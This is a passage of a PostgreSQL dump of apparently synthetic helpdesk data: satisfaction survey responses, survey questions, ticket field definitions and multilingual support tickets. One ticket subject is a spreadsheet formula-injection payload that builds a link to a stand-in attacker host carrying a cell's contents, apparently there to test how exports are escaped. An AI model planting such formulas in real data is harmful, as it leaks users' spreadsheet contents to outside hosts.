	('01KAMFXWFMV9WNE01R01XW15RW', 87, 40000000010141, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-22 00:37:51.732+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-12-20 00:37:51.732+00', 3, 'bad', 'Comment 2', NULL, 40000000004765, 41099511628445, 'unchanged', 0, 'survey'),
	('01KAN720DJ2CPSK4QEV3D8PFZA', 75, 40000000010525, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-22 07:22:04.082+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-12-20 07:22:04.082+00', 4, 'good', NULL, NULL, 40000000004509, 41099511628317, 'unchanged', 0, 'survey'),
	('01KANCBY65H8HX3R35N4DTF28Q', 82, 40000000007325, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-22 08:54:52.357+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-12-20 08:54:52.357+00', 5, 'good', 'Comment 4', NULL, 40000000002973, 41099511628061, 'unchanged', 0, 'survey'),
	('01KARRYF4YEP7FTS73AHN0MP39', 90, 40000000008733, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-23 16:32:25.758+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-12-21 16:32:25.758+00', 1, 'bad', NULL, NULL, 40000000000541, 41099511627805, 'unchanged', 0, 'survey'),
	('01K9VX5Q2XMHGX9AGANK899FWX', 65, 40000000006557, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-12 11:28:19.037+00', '2025-11-12 12:04:12.714+00', '2025-11-12 12:04:12.714+00', '2025-12-10 11:28:19.037+00', 5, 'good', NULL, NULL, 40000000000029, 41099511627805, 'unchanged', 0, 'survey'),
	('01K9X1ABX30VY145FMDX0984K3', 66, 40000000012061, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-12 22:00:00.163+00', '2025-11-12 22:20:16.949+00', '2025-11-12 22:20:16.949+00', '2025-12-10 22:00:00.163+00', 5, 'good', 'شكرا جزيلا على المساعدة السريعة', NULL, 40000000001821, 41099511627933, 'unchanged', 0, 'survey'),
	('01KAV61YDVK9EK7YR8PWT6A7HQ', 91, 40000000007325, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-24 15:00:00.059+00', NULL, NULL, '2025-12-22 15:00:00.059+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KAV61YDW53HBT99N1YZ83527', 92, 40000000011421, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-24 15:00:00.06+00', NULL, NULL, '2025-12-22 15:00:00.06+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KAV61YDXS6Y2JVBHTXRJ28D5', 93, 40000000010525, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-24 15:00:00.061+00', NULL, NULL, '2025-12-22 15:00:00.061+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KAV61YDY0TBMVRJZG6TMYVW9', 94, 40000000010653, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-24 15:00:00.062+00', NULL, NULL, '2025-12-22 15:00:00.062+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KAV61YDZW4FT7MYTZD9C3ENQ', 95, 40000000007197, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-24 15:00:00.063+00', NULL, NULL, '2025-12-22 15:00:00.063+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KAV61YE08551ZVQ0VNEAX8EE', NULL, 40000000008093, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-24 15:00:00.064+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-12-22 15:00:00.064+00', 2, 'bad', 'Comment 6', NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KAV61YE11CZCPA19QRT4BSF6', NULL, 40000000006429, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-24 15:00:00.065+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-12-22 15:00:00.065+00', 3, 'bad', NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KAV61YE25CQ3WK2BMC6WX23D', NULL, 40000000005789, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-24 15:00:00.066+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-12-22 15:00:00.066+00', 4, 'good', 'Comment 8', NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KAV61YE36TQ7R4GQ41QM5M88', NULL, 40000000010781, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-24 15:00:00.067+00', NULL, NULL, '2025-12-22 15:00:00.067+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KAVCXNP4524S2P0S9S2K4QQJ', 66, 40000000012061, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-24 17:00:00.068+00', NULL, NULL, '2025-12-22 17:00:00.068+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KAN7PC5515PJTDZRVAAXYXX4', 89, 40000000010525, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-22 07:33:11.461+00', '2025-11-23 06:23:15.458+00', '2025-11-24 17:00:00+00', '2025-12-20 07:33:11.461+00', 1, 'bad', NULL, NULL, 40000000001437, 41099511627933, 'unchanged', 1, 'survey'),
	('01KAKD66D5JPQG060FQHV2NA83', 88, 40000000010781, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-21 14:30:43.877+00', '2025-11-22 04:39:58.521+00', '2025-11-24 17:00:00+00', '2025-12-19 14:30:43.877+00', 5, 'good', '等了三天才有人回复', 'I had to repeat myself to several people', 40000000001693, 41099511627933, 'unchanged', 1, 'survey'),
	('01KAH6NZRJPQ5EB4C54JWHSR6W', 86, 40000000008733, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-20 17:58:32.466+00', '2025-11-20 19:38:02.854+00', '2025-11-24 17:00:00+00', '2025-12-18 17:58:32.466+00', 1, 'bad', 'Could not be better.', NULL, 40000000005021, 41099511628445, 'unchanged', 1, 'survey'),
	('01KAGYENAAH8EKQWVQW31YZ1WC', 85, 40000000007453, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-20 15:34:43.786+00', '2025-11-20 23:32:26.634+00', '2025-11-24 17:00:00+00', '2025-12-18 15:34:43.786+00', 5, 'good', NULL, 'I had to repeat myself to several people', 40000000001437, 41099511627933, 'unchanged', 1, 'survey'),
	('01KA49CP6S88E9EEDS3KRJ9B92', 74, 40000000010781, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-15 17:35:45.881+00', '2025-11-16 12:44:12.038+00', '2025-11-24 17:00:00+00', '2025-12-13 17:35:45.881+00', 1, 'bad', NULL, NULL, 40000000004637, 41099511628445, 'unchanged', 1, 'survey'),
	('01K9XZMN4FN2Y302VW1SJ18J32', 69, 40000000010909, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-13 06:49:54.575+00', '2025-11-13 09:00:50.079+00', '2025-11-24 17:00:00+00', '2025-12-11 06:49:54.575+00', 1, 'bad', NULL, NULL, 40000000000157, 41099511627805, 'unchanged', 1, 'survey'),
	('01KAGPBXMTE04MRVWWSHJMZ0XV', 82, 40000000007325, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-20 13:13:25.402+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-12-18 13:13:25.402+00', 1, 'bad', 'Comment 0', NULL, 40000000002973, 41099511628061, 'unchanged', 0, 'survey'),
	('01KAKCKV3Z22KFD05FGWRBX5AM', 71, 40000000010909, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-21 14:20:42.495+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-12-19 14:20:42.495+00', 2, 'bad', NULL, NULL, 40000000004765, 41099511628445, 'unchanged', 0, 'survey');


--
-- Data for Name: surveys; Type: TABLE DATA; Schema: public; Owner: -
--

INSERT INTO public.surveys VALUES
	('01K6MAC4J0KRVQKEBZ99Y1A000', 2, '01K6MABX6N7HQF6WQYJKW2M001', '1', 1, 'rating_scale_numeric', 'customer_satisfaction', 'How would you rate the support you received?', 1, 'Very unsatisfied', 'enabled'),
	('01K6MAC4J0KRVQKEBZ99Y1A000', 2, '01K6MABX6N7HQF6WQYJKW2M001', '2', 1, 'rating_scale_numeric', 'customer_satisfaction', 'How would you rate the support you received?', 2, '', 'enabled'),
	('01K6MAC4J0KRVQKEBZ99Y1A000', 2, '01K6MABX6N7HQF6WQYJKW2M001', '3', 1, 'rating_scale_numeric', 'customer_satisfaction', 'How would you rate the support you received?', 3, '', 'enabled'),
	('01K6MAC4J0KRVQKEBZ99Y1A000', 2, '01K6MABX6N7HQF6WQYJKW2M001', '4', 1, 'rating_scale_numeric', 'customer_satisfaction', 'How would you rate the support you received?', 4, '', 'enabled'),
	('01K6MAC4J0KRVQKEBZ99Y1A000', 2, '01K6MABX6N7HQF6WQYJKW2M001', '5', 1, 'rating_scale_numeric', 'customer_satisfaction', 'How would you rate the support you received?', 5, 'Very satisfied', 'enabled'),
	('01K6MAC4J0KRVQKEBZ99Y1A000', 2, '01K6MABX6NVAK6TB3XVXT3Y002', '01K6MABX6N2WAP17VWEHP6J004', 2, 'closed_ended', NULL, 'Select a reason regarding your experience', NULL, 'The issue took too long to resolve', 'enabled'),
	('01K6MAC4J0KRVQKEBZ99Y1A000', 2, '01K6MABX6NVAK6TB3XVXT3Y002', '01K6MABX6NPN6DMP7VQVM7W005', 2, 'closed_ended', NULL, 'Select a reason regarding your experience', NULL, 'The issue was not resolved', 'enabled'),
	('01K6MAC4J0KRVQKEBZ99Y1A000', 2, '01K6MABX6NVAK6TB3XVXT3Y002', '01K6MABX6NAE2584KV15J96006', 2, 'closed_ended', NULL, 'Select a reason regarding your experience', NULL, 'The information provided was not clear or helpful', 'enabled'),
	('01K6MAC4J0KRVQKEBZ99Y1A000', 2, '01K6MABX6NVAK6TB3XVXT3Y002', '01K6MABX6NY6XWVJZTAFGAG007', 2, 'closed_ended', NULL, 'Select a reason regarding your experience', NULL, 'I had to repeat myself to several people', 'enabled'),
	('01K6MAC4J0KRVQKEBZ99Y1A000', 2, '01K6MABX6NF3EYDSFX57R58003', '', 3, 'open_ended', NULL, 'Share your thoughts on the support you received', NULL, NULL, 'enabled');


--
-- Data for Name: ticket_fields; Type: TABLE DATA; Schema: public; Owner: -
--

INSERT INTO public.ticket_fields VALUES
	(44398046511133, 'Subject', 'subject', NULL, true),
	(44398046511261, 'Description', 'description', NULL, true),
	(44398046511389, 'Status', 'status', NULL, true),
	(44398046511517, 'Type', 'tickettype', NULL, true),
	(44398046511645, 'Priority', 'priority', NULL, true),
	(44398046511773, 'Group', 'group', NULL, true),
	(44398046511901, 'Assignee', 'assignee', NULL, true),
	(44398046523933, 'Topic', 'tagger', '{"topic_account_access": "Account access", "topic_general": "General question", "topic_invoice": "Invoice", "topic_refund": "Refund", "topic_bug": "Bug report", "topic_integration": "Integration", "topic_return": "Return", "topic_late_delivery": "Late delivery", "topic_setup": "Setup", "topic_training": "Training", "topic_order_change": "Order change"}', true),
	(44398046524061, 'Total time spent (sec)', 'integer', NULL, true),
	(44398046524189, 'Time spent last update (sec)', 'integer', NULL, true),
	(44398046524317, 'Order number', 'text', NULL, true),
	(44398046524445, 'Consent given', 'checkbox', NULL, true);


--
-- Data for Name: tickets; Type: TABLE DATA; Schema: public; Owner: -
--

INSERT INTO public.tickets VALUES
	(17, 'Export to CSV stops half way', 'pending', NULL, 'high', 'email', 42199023255581, 46597069766685, NULL, 40000000009757, 40000000002333, 41099511628061, '{topic_integration}', '{"44398046523933": "topic_integration", "44398046524061": 1157, "44398046524189": 463, "44398046524317": "NW-134623"}', 'unoffered', NULL, NULL, '2025-10-14 17:35:35+00', '2025-10-14 18:16:45+00', '2025-10-14 18:16:45+00', NULL, '2025-10-14 17:35:35+00', '2025-10-14 18:16:45+00', 0, 1, 1, 1, 41, NULL, NULL, NULL, NULL, 0, 0, NULL, NULL, NULL, NULL, 0, 1157, false),
	(29, 'Discount code does not work', 'pending', NULL, 'urgent', 'web', 42199023255581, 46597069766685, NULL, 40000000007197, 40000000004381, 41099511628317, '{topic_training}', '{"44398046523933": "topic_training", "44398046524061": 408, "44398046524189": 163, "44398046524317": "NW-229651"}', 'unoffered', NULL, NULL, '2025-10-20 14:25:25+00', '2025-10-20 15:02:03+00', '2025-10-20 15:02:03+00', NULL, '2025-10-20 14:25:25+00', '2025-10-20 15:02:03+00', 0, 1, 1, 1, 37, NULL, NULL, NULL, NULL, 0, 37, NULL, NULL, NULL, NULL, 0, 408, false),
	(32, 'Faktura bez numeru NIP', 'pending', 'question', 'high', 'native_messaging', 42199023255581, 46597069766685, NULL, 40000000009117, 40000000004765, 41099511628445, '{topic_order_change}', '{"44398046523933": "topic_order_change", "44398046524061": 885, "44398046524189": 354, "44398046524317": "NW-253408"}', 'unoffered', NULL, NULL, '2025-10-21 18:45:48+00', '2025-10-21 18:58:03+00', '2025-10-21 18:58:03+00', NULL, '2025-10-21 18:45:48+00', '2025-10-21 18:58:03+00', 0, 1, 1, 1, 12, NULL, NULL, NULL, NULL, 0, 0, NULL, NULL, NULL, NULL, 0, 885, false),
	(37, 'Cancel my subscription', 'solved', 'question', NULL, 'email', 42199023255581, 46597069766685, 43298534883613, 40000000008349, 40000000000541, 41099511627805, '{topic_general}', '{"44398046523933": "topic_general", "44398046524317": "NW-293003"}', 'bad', 'The issue took too long to resolve', NULL, '2025-10-26 08:45:40+00', '2025-10-27 19:37:44+00', '2025-10-27 19:37:44+00', '2025-10-27 12:20:40+00', '2025-10-26 08:45:40+00', '2025-10-27 12:20:40+00', 0, 1, 1, 1, 1655, 1655, 1655, 797, 858, 0, 201, 201, 201, 97, 104, 0, NULL, false),
	(39, 'No puedo iniciar sesión', 'solved', 'incident', 'high', 'web', 42199023255709, 46597069766685, NULL, 40000000007837, 40000000001181, 41099511628061, '{beta,topic_integration}', '{"44398046523933": "topic_integration", "44398046524061": 615, "44398046524189": 246}', 'unoffered', NULL, NULL, '2025-10-28 07:30:13+00', '2025-10-28 11:25:17+00', '2025-10-28 11:25:17+00', '2025-10-28 11:25:17+00', '2025-10-28 07:30:13+00', '2025-10-28 11:25:17+00', 0, 2, 1, 1, 46, 235, 235, 138, 97, 0, 0, 145, 145, 85, 60, 0, 615, false),
	(41, 'रिफंड कब मिलेगा?', 'solved', 'question', 'high', 'email', 42199023255581, 46597069766685, NULL, 40000000009245, 40000000003229, 41099511628189, '{topic_late_delivery}', '{"44398046523933": "topic_late_delivery", "44398046524061": 153, "44398046524189": 61, "44398046524317": "NW-324679"}', 'offered', NULL, NULL, '2025-10-29 10:33:12+00', '2025-10-29 11:54:46+00', '2025-10-29 11:54:46+00', '2025-10-29 11:54:45+00', '2025-10-29 10:33:12+00', '2025-10-29 11:54:45+00', 0, 3, 1, 1, 78, 82, 82, 30, 51, 1, 78, 82, 82, 30, 51, 1, 153, false),
	(42, 'No puedo iniciar sesión', 'solved', 'question', 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000010525, 40000000004765, 41099511628445, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 218, "44398046524189": 87}', 'offered', NULL, NULL, '2025-10-29 14:39:19+00', '2025-10-29 21:47:27+00', '2025-10-29 21:47:27+00', '2025-10-29 21:47:26+00', '2025-10-29 14:39:19+00', '2025-10-29 21:47:26+00', 0, 4, 1, 1, 428, 428, 428, 225, 203, 78, 141, 141, 141, 74, 67, 26, 218, false),
	(38, NULL, 'deleted', 'question', 'normal', 'email', 42199023255709, 46597069766685, 43298534883357, 40000000011677, 40000000002461, 41099511628061, '{topic_integration}', NULL, 'offered', NULL, NULL, '2025-10-27 12:03:42+00', '2025-10-30 01:09:03+00', '2025-10-30 01:09:03+00', '2025-10-27 16:21:58+00', '2025-10-27 12:03:42+00', '2025-10-27 16:21:58+00', 0, 4, 1, 1, 78, 258, 258, 68, 191, 0, 78, 258, 258, 68, 191, 0, 275, true),
	(40, 'How do I add a second user?', 'solved', NULL, 'high', 'email', 42199023255581, 46597069766685, NULL, 40000000006941, 40000000001949, 41099511627933, '{topic_invoice,vip}', '{"44398046523933": "topic_invoice", "44398046524061": 209, "44398046524189": 83, "44398046524317": "NW-316760", "44398046524445": true}', 'offered', NULL, NULL, '2025-10-28 19:24:32+00', '2025-10-31 11:37:42+00', '2025-10-31 11:37:42+00', '2025-10-31 11:37:41+00', '2025-10-28 19:24:32+00', '2025-10-31 11:37:41+00', 0, 2, 1, 1, 43, 3853, 3853, 1604, 2249, 0, 0, 1118, 1118, 465, 652, 0, 209, false),
	(44, '=HYPERLINK("http://evil.example/?q="&A1,"Invoice")', 'solved', 'problem', 'high', 'api', 42199023255581, 46597069766685, NULL, 40000000007197, 40000000000669, 41099511627805, '{beta,topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 542, "44398046524189": 217, "44398046524317": "NW-348436"}', 'offered', NULL, NULL, '2025-10-30 14:44:34+00', '2025-10-31 21:59:01+00', '2025-10-31 21:59:01+00', '2025-10-31 21:59:00+00', '2025-10-30 14:44:34+00', '2025-10-31 21:59:00+00', 0, 1, 1, 1, 1874, 1874, 1874, 1348, 527, 356, 615, 615, 615, 443, 173, 117, 542, false),
	(48, 'Rückerstattung fehlt noch immer', 'solved', 'incident', 'high', 'web', 42199023255581, 46597069766685, NULL, 40000000007581, 40000000000541, 41099511627805, '{topic_general}', '{"44398046523933": "topic_general", "44398046524061": 842, "44398046524189": 337}', 'offered', NULL, NULL, '2025-10-31 12:37:51+00', '2025-10-31 22:12:19+00', '2025-10-31 22:12:19+00', '2025-10-31 22:12:18+00', '2025-10-31 12:37:51+00', '2025-10-31 22:12:18+00', 0, 2, 1, 1, 287, 574, 574, 472, 102, 1, 262, 262, 262, 215, 47, 0, 842, false),
	(43, 'Question about my last invoice', 'solved', 'incident', 'high', 'email', 42199023255581, 46597069766685, 43298534883869, 40000000011805, 40000000004381, 41099511628317, '{topic_training}', '{"44398046523933": "topic_training", "44398046524317": "NW-340517"}', 'unoffered', NULL, NULL, '2025-10-30 07:55:55+00', '2025-11-01 16:47:11+00', '2025-11-01 16:47:11+00', '2025-11-01 16:47:11+00', '2025-10-30 07:55:55+00', '2025-11-01 16:47:11+00', 0, 2, 1, 1, 135, 3411, 3411, 1661, 1750, 21, 71, 960, 960, 467, 493, 6, NULL, false),
	(50, 'Не приходить код підтвердження', 'solved', NULL, 'high', 'email', 42199023255581, 46597069766685, NULL, 40000000007453, 40000000004637, 41099511628445, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 404, "44398046524189": 161, "44398046524317": "NW-395950", "44398046524445": true}', 'offered', NULL, NULL, '2025-11-01 16:33:02+00', '2025-11-03 20:02:14+00', '2025-11-03 20:02:14+00', '2025-11-03 20:02:13+00', '2025-11-02 21:09:17+00', '2025-11-03 20:02:13+00', 0, 1, 2, 1, 103, 3089, 3089, 1794, 1295, 0, 0, 480, 480, 279, 201, 0, 404, false),
	(46, 'Commande jamais reçue', 'solved', 'incident', 'low', 'email', 42199023255581, 46597069766685, NULL, 40000000011165, 40000000002333, 41099511628061, '{topic_bug}', '{"44398046523933": "topic_bug", "44398046524061": 2084, "44398046524189": 833, "44398046524317": "NW-364274"}', 'unoffered', NULL, NULL, '2025-10-31 05:11:52+00', '2025-11-04 00:09:53+00', '2025-11-04 00:09:53+00', '2025-11-04 00:09:53+00', '2025-11-02 07:09:37+00', '2025-11-04 00:09:53+00', 0, 3, 2, 1, 1780, 5458, 5458, 4407, 1051, 1353, 480, 960, 960, 775, 185, 238, 2084, false),
	(1, 'Question about my last invoice', 'closed', 'question', 'low', 'native_messaging', 42199023255581, 46597069766685, NULL, 40000000010653, 40000000001437, 41099511627933, '{escalated,topic_invoice,vip}', '{"44398046523933": "topic_invoice", "44398046524317": "NW-007919"}', 'good', NULL, 'बहुत अच्छी मदद मिली, धन्यवाद', '2025-10-07 05:57:30+00', '2025-11-04 06:33:38+00', '2025-11-04 06:33:38+00', '2025-10-07 06:33:38+00', '2025-10-07 05:57:30+00', '2025-10-07 06:33:38+00', 0, 1, 1, 1, 16, 36, 36, 29, 8, 0, 0, 0, 0, 0, 0, 0, NULL, false),
	(47, NULL, 'deleted', 'question', NULL, 'email', 42199023255581, 46597069766685, NULL, 40000000007837, 40000000005021, 41099511628445, '{beta,topic_order_change}', NULL, 'good', NULL, NULL, '2025-10-31 11:23:45+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-10-31 17:52:17+00', '2025-10-31 11:23:45+00', '2025-10-31 17:52:17+00', 0, 2, 1, 1, 227, 389, 389, 181, 208, 0, 227, 336, 336, 156, 180, 0, 323, true),
	(52, '登录后页面空白', 'solved', NULL, 'normal', 'email', 42199023255709, 46597069766685, NULL, 40000000007325, 40000000001309, 41099511627933, '{topic_refund}', '{"44398046523933": "topic_refund", "44398046524061": 139, "44398046524189": 55, "44398046524317": "NW-411788"}', 'unoffered', NULL, NULL, '2025-11-03 21:55:22+00', '2025-11-04 11:13:15+00', '2025-11-04 11:13:15+00', '2025-11-04 11:13:15+00', '2025-11-03 22:43:26+00', '2025-11-04 11:13:15+00', 0, 4, 2, 1, 85, 798, 798, 494, 304, 0, 0, 133, 133, 83, 51, 0, 139, false),
	(3, 'Please change the delivery address', 'closed', 'task', 'normal', 'email', 42199023255709, 46597069766685, 43298534883613, 40000000008349, 40000000002333, 41099511628061, '{topic_bug}', '{"44398046523933": "topic_bug", "44398046524061": 427, "44398046524189": 170}', 'offered', NULL, NULL, '2025-10-07 11:50:06+00', '2025-11-04 21:19:54+00', '2025-11-04 21:19:54+00', '2025-10-07 21:19:54+00', '2025-10-07 11:50:06+00', '2025-10-07 21:19:54+00', 0, 3, 1, 1, 52, 570, 570, 291, 278, 0, 52, 310, 310, 159, 151, 0, 427, false),
	(54, 'Kann mich nicht anmelden', 'solved', NULL, 'normal', 'email', 42199023255581, 46597069766685, 43298534883357, 40000000011677, 40000000001693, 41099511627933, '{topic_refund,vip}', '{"44398046523933": "topic_refund", "44398046524061": 2278, "44398046524189": 911}', 'offered', NULL, NULL, '2025-11-04 18:55:59+00', '2025-11-05 14:24:10+00', '2025-11-05 14:24:10+00', '2025-11-05 14:24:09+00', '2025-11-04 18:55:59+00', '2025-11-05 14:24:09+00', 0, 5, 1, 1, 701, 1168, 1168, 651, 517, 0, 0, 324, 324, 181, 144, 0, 2278, false),
	(5, 'Cannot log in after password reset', 'closed', 'task', 'normal', 'native_messaging', 42199023255709, 46597069766685, 43298534883997, 40000000010141, 40000000003613, 41099511628189, '{topic_late_delivery}', '{"44398046523933": "topic_late_delivery", "44398046524061": 217, "44398046524189": 87, "44398046524317": "NW-039595", "44398046524445": true}', 'bad', 'The information provided was not clear or helpful', 'The refund never arrived.', '2025-10-08 12:05:19+00', '2025-11-05 14:55:59+00', '2025-11-05 14:55:59+00', '2025-10-08 14:55:59+00', '2025-10-08 13:18:22+00', '2025-10-08 14:55:59+00', 0, 1, 2, 1, 121, 171, 171, 142, 28, 0, 121, 171, 171, 142, 28, 0, 217, false),
	(6, 'لم يصل طلبي بعد', 'closed', NULL, NULL, 'email', 42199023255709, 46597069766685, NULL, 40000000011421, 40000000000925, 41099511627805, '{topic_general}', '{"44398046523933": "topic_general", "44398046524061": 652, "44398046524189": 261}', 'bad', 'The information provided was not clear or helpful', NULL, '2025-10-08 13:00:55+00', '2025-11-05 23:51:19+00', '2025-11-05 23:51:19+00', '2025-10-08 23:51:19+00', '2025-10-08 19:35:37+00', '2025-10-08 23:51:19+00', 0, 1, 2, 1, 52, 650, 650, 596, 55, 135, 52, 239, 239, 219, 20, 50, 652, false),
	(4, 'Mot de passe oublié', 'closed', NULL, 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000010397, 40000000004765, 41099511628445, '{topic_order_change,vip}', '{"44398046523933": "topic_order_change", "44398046524061": 158, "44398046524189": 63, "44398046524317": "NW-031676"}', 'good', NULL, NULL, '2025-10-08 07:03:17+00', '2025-11-06 04:05:34+00', '2025-11-06 04:05:34+00', '2025-10-09 04:05:34+00', '2025-10-08 07:03:17+00', '2025-10-09 04:05:34+00', 0, 2, 1, 1, 71, 1262, 1262, 606, 656, 0, 0, 480, 480, 231, 249, 0, 158, false),
	(51, 'Cancel my subscription', 'solved', 'question', 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000011293, 40000000001949, 41099511627933, '{topic_invoice}', '{"44398046523933": "topic_invoice", "44398046524061": 88, "44398046524189": 35}', 'offered', NULL, NULL, '2025-11-03 08:22:35+00', '2025-11-04 00:12:44+00', '2025-11-06 22:18:03+00', '2025-11-04 00:12:43+00', '2025-11-03 08:22:35+00', '2025-11-04 00:12:43+00', 0, 2, 1, 1, 119, 950, 950, 436, 514, 91, 82, 480, 480, 220, 260, 46, 88, false),
	(57, 'No puedo iniciar sesión', 'solved', 'question', 'low', 'email', 42199023255581, 46597069766685, NULL, 40000000005661, 40000000000285, 41099511627805, '{beta,topic_general}', '{"44398046523933": "topic_general", "44398046524061": 204, "44398046524189": 81}', 'offered', NULL, NULL, '2025-11-07 15:02:22+00', '2025-11-07 16:19:05+00', '2025-11-07 16:19:05+00', '2025-11-07 16:19:04+00', '2025-11-07 15:15:18+00', '2025-11-07 16:19:04+00', 0, 2, 2, 1, 67, 77, 77, 64, 13, 11, 67, 77, 77, 64, 13, 11, 204, false),
	(55, 'Please change the delivery address', 'solved', 'question', 'normal', 'web', 42199023255581, 46597069766685, NULL, 40000000010013, 40000000004765, 41099511628445, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 279, "44398046524189": 111, "44398046524317": "NW-435545", "44398046524445": true}', 'offered', NULL, NULL, '2025-11-05 22:04:07+00', '2025-11-08 23:22:29+00', '2025-11-08 23:22:29+00', '2025-11-08 23:22:28+00', '2025-11-05 22:04:07+00', '2025-11-08 23:22:28+00', 0, 1, 1, 1, 49, 4398, 4398, 2379, 2019, 0, 0, 960, 960, 519, 441, 0, 279, false),
	(49, NULL, 'deleted', NULL, 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000007069, 40000000002589, 41099511628061, '{topic_integration}', NULL, 'good', NULL, NULL, '2025-10-31 19:27:10+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-04 17:39:18+00', '2025-10-31 19:27:10+00', '2025-11-04 17:39:18+00', 0, 1, 1, 1, 15, 5652, 5652, 4493, 1159, 0, 0, 960, 960, 763, 197, 0, 547, true),
	(11, 'Rückerstattung fehlt noch immer', 'closed', NULL, 'normal', 'web', 42199023255581, 46597069766685, NULL, 40000000011165, 40000000004765, 41099511628445, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 989, "44398046524189": 395, "44398046524317": "NW-087109"}', 'bad', 'The issue took too long to resolve', 'I had to explain everything again. The app on my phone is the issue.', '2025-10-11 17:05:05+00', '2025-11-09 02:50:37+00', '2025-11-09 02:50:37+00', '2025-10-12 02:50:37+00', '2025-10-11 17:05:05+00', '2025-10-12 02:50:37+00', 0, 4, 1, 1, 37, 586, 586, 351, 235, 20, 0, 0, 0, 0, 0, 0, 989, false),
	(9, 'Invoice without VAT number', 'closed', NULL, 'high', 'web', 42199023255709, 46597069766685, NULL, 40000000007965, 40000000002333, 41099511628061, '{topic_return}', '{"44398046523933": "topic_return"}', 'offered', NULL, NULL, '2025-10-10 16:13:19+00', '2025-11-09 06:02:38+00', '2025-11-09 06:02:38+00', '2025-10-12 06:02:38+00', '2025-10-11 18:43:20+00', '2025-10-12 06:02:38+00', 0, 3, 2, 2, 513, 2269, 2269, 844, 1425, 0, 47, 47, 47, 17, 29, 0, NULL, false),
	(45, 'לא קיבלתי זיכוי', 'solved', NULL, 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000011421, 40000000002333, 41099511628061, '{topic_integration,über_urgent}', '{"44398046523933": "topic_integration", "44398046524061": 475, "44398046524189": 190, "44398046524445": true}', 'offered', NULL, NULL, '2025-10-30 18:33:46+00', '2025-11-09 15:00:40+00', '2025-11-09 15:00:40+00', '2025-11-09 15:00:39+00', '2025-10-30 18:33:46+00', '2025-11-09 15:00:39+00', 0, 3, 1, 1, 214, 14187, 14187, 10922, 3265, 0, 0, 2880, 2880, 2217, 663, 0, 475, false),
	(61, 'Commande jamais reçue', 'solved', 'question', 'low', 'voice', 42199023255581, 46597069766685, NULL, 40000000007325, 40000000004765, 41099511628445, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524317": "NW-483059"}', 'offered', NULL, NULL, '2025-11-10 09:04:19+00', '2025-11-10 12:14:22+00', '2025-11-10 12:14:22+00', '2025-11-10 12:14:21+00', '2025-11-10 09:04:19+00', '2025-11-10 12:14:21+00', 0, 4, 1, 1, 7, 190, 190, 93, 97, 4, 7, 190, 190, 93, 97, 4, NULL, false),
